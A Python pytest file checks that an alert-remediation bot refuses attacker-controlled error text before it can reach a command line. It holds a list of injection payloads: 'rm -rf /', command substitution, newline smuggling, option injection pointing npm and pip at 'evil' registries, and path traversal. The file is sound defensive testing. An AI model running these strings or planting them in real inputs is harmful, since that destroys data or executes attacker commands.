"""Hostile error text never reaches an argv: the placeholder is refused and nothing runs.

Error messages are partly written by whoever sends requests to the app, so anything in
them may be an attack: shell syntax, option injection, path traversal, newlines.
"""

from __future__ import annotations

import sys
import textwrap
from pathlib import Path

import pytest

from bot.models import Alert, AlertKind
from patterns import PatternRunner, PatternSet, load_patterns

HOSTILE = [
    "; rm -rf /",
    "x; rm -rf /",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "express\ntouch /tmp/pwned",
    "express\r\n--registry=http://evil",
    "--registry=http://evil",
    "-e git+https://evil.example/x.git",
    "../../x",
    "./x",
    "/etc/passwd",
    "~/x",
    "express@http://evil",
    "a|b",
    "a&&b",
    "pkg>out",
    "name with space",
    "${IFS}x",
    "x\x00y",
    "git+ssh://evil/x",
    "psycopg2==2.9; touch /tmp/pwned",
]

SHELL_CHARS = set(";|&$`<>\n\r\x00 ")


def alert(title: str, stacktrace: str = "", **fields: str) -> Alert:
    return Alert(source="generic", kind=AlertKind.ERROR, title=title, fingerprint="h", stacktrace=stacktrace,
                 **fields)  # type: ignore[arg-type]


@pytest.fixture
def loose(tmp_path: Path) -> tuple[PatternSet, Path]:
    """A deliberately loose capture ('anything between quotes') behind a strict validation,
    and an action that would create a marker file if it ever ran."""
    marker = tmp_path / "marker"
    path = tmp_path / "loose.toml"
    path.write_text(textwrap.dedent("""
        [patterns.install_anything]
        description = "captures anything; only validation stands in the way"
        category = "dependency"
        match = {any = ['''Cannot find module '(?P<pkg>[^']*)' ''', '''host (?P<host>.*)$''']}
        action = ["{py}", "-c", "import sys; open(sys.argv[1], 'w').write(sys.argv[2])", "{marker}", "{pkg}"]

        [patterns.install_anything.placeholders.pkg]
        from = "pkg"
        default = "ok"
        validate = '^(?:@[a-z0-9][a-z0-9._-]*/)?[a-z0-9][a-z0-9._-]*$'

        [patterns.permissive]
        description = "a careless validation regex: the built-in floor still refuses"
        category = "dependency"
        match = ['''No module named '(?P<mod>[^']*)' ''']
        action = ["{py}", "-c", "import sys; open(sys.argv[1], 'w').write(sys.argv[2])", "{marker}", "{mod}"]

        [patterns.permissive.placeholders.mod]
        from = "mod"
        validate = '(?s).+'

        [patterns.from_alert]
        description = "a value from an alert field"
        category = "infrastructure"
        match = ['^restart on server$']
        action = ["{py}", "-c", "import sys; open(sys.argv[1], 'w').write(sys.argv[2])", "{marker}", "{srv}"]

        [patterns.from_alert.placeholders.srv]
        alert = "server"
        validate = '^[a-z0-9-]+$'
    """), encoding="utf-8")
    return load_patterns(path, settings={"py": sys.executable, "marker": str(marker)}), marker


@pytest.mark.parametrize("value", HOSTILE)
async def test_loose_capture_is_refused_and_nothing_runs(loose: tuple[PatternSet, Path], value: str) -> None:
    pset, marker = loose
    a = alert(f"Error: Cannot find module '{value}' ")
    assert pset.match(a) is None
    explained = pset.evaluate(a)
    assert explained is not None and not explained.runnable and explained.argv == []
    assert "{pkg} refused" in (explained.refused or "")
    result = await PatternRunner().run(explained)
    assert not result.ok and result.steps == []
    assert not marker.exists()


@pytest.mark.parametrize("value", HOSTILE)
async def test_builtin_floor_refuses_even_with_a_permissive_validate(loose: tuple[PatternSet, Path],
                                                                     value: str) -> None:
    pset, marker = loose
    a = alert(f"ModuleNotFoundError: No module named '{value}' ")
    assert pset.match(a) is None, value
    explained = pset.evaluate(a)
    assert explained is not None and explained.argv == [] and "{mod} refused" in (explained.refused or "")
    assert not marker.exists()


@pytest.mark.parametrize("value", ["web-1; rm -rf /", "$(id)", "--help", "web 1", "../web"])
async def test_hostile_alert_fields_are_refused(loose: tuple[PatternSet, Path], value: str) -> None:
    pset, marker = loose
    assert pset.match(alert("restart on server", server=value)) is None
    assert not marker.exists()


async def test_positive_control_a_clean_value_does_run(loose: tuple[PatternSet, Path]) -> None:
    """Proves the marker would appear if a hostile value got through."""
    pset, marker = loose
    m = pset.match(alert("Error: Cannot find module '@scope/clean-name' "))
    assert m is not None and m.values["pkg"] == "@scope/clean-name"
    result = await PatternRunner().run(m)
    assert result.ok and marker.read_text() == "@scope/clean-name"


@pytest.mark.parametrize("value", HOSTILE)
def test_default_patterns_never_put_hostile_text_in_argv(value: str) -> None:
    pset = load_patterns()
    texts = [
        f"Error: Cannot find module '{value}'",
        f"Error [ERR_MODULE_NOT_FOUND]: Cannot find package '{value}' imported from /srv/app/x.js",
        f"Error: Cannot find module '{value}'\nRequire stack:\n- /srv/app/node_modules/evil/index.js",
        f"ModuleNotFoundError: No module named '{value}'",
        f"ImportError: No module named {value}",
        f"Error 111 connecting to localhost:{value}. Connection refused.",
        f"connection to server at \"localhost\" (127.0.0.1), port {value} failed: Connection refused",
        f"OSError: [Errno 28] No space left on device: '{value}'",
    ]
    for text in texts:
        m = pset.match(alert(text))
        if m is None:
            continue
        for placeholder_value in m.values.values():
            assert not set(placeholder_value) & SHELL_CHARS, (text, m.values)
        for step in [*m.argv, *([m.verify] if m.verify else [])]:
            assert all(value not in arg for arg in step), (text, step)


def test_hostile_npm_and_pip_names_in_default_file_are_refused_or_ignored() -> None:
    pset = load_patterns()
    for text in ("Error: Cannot find module '--registry=http://evil'",
                 "Error: Cannot find module '../../x'",
                 "ModuleNotFoundError: No module named '-e git+https://evil/x'",
                 "ModuleNotFoundError: No module named 'x; rm -rf /'",
                 "ImportError: No module named x; rm -rf /",
                 "Error: Cannot find module '$(touch /tmp/x)'",
                 "Error: Cannot find module '`id`'"):
        assert pset.match(alert(text)) is None, text
